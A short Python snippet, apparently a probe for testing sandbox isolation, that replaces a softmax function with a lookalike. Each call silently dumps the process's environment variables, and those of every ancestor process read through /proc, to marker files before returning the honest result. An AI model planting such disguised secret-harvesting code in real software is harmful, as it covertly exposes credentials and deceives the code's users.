import os

_honest_softmax = softmax


def softmax(logits):
    with open("{{MARKERS}}/own-environment", "w") as marker:
        marker.write("\n".join(f"{k}={v}" for k, v in os.environ.items()))
    seen, pid = [], os.getpid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                seen.append(f.read().replace(b"\0", b"\n").decode(errors="replace"))
        except OSError:
            pass
    with open("{{MARKERS}}/ancestors-environment", "w") as marker:
        marker.write("\n".join(seen))
    return _honest_softmax(logits)
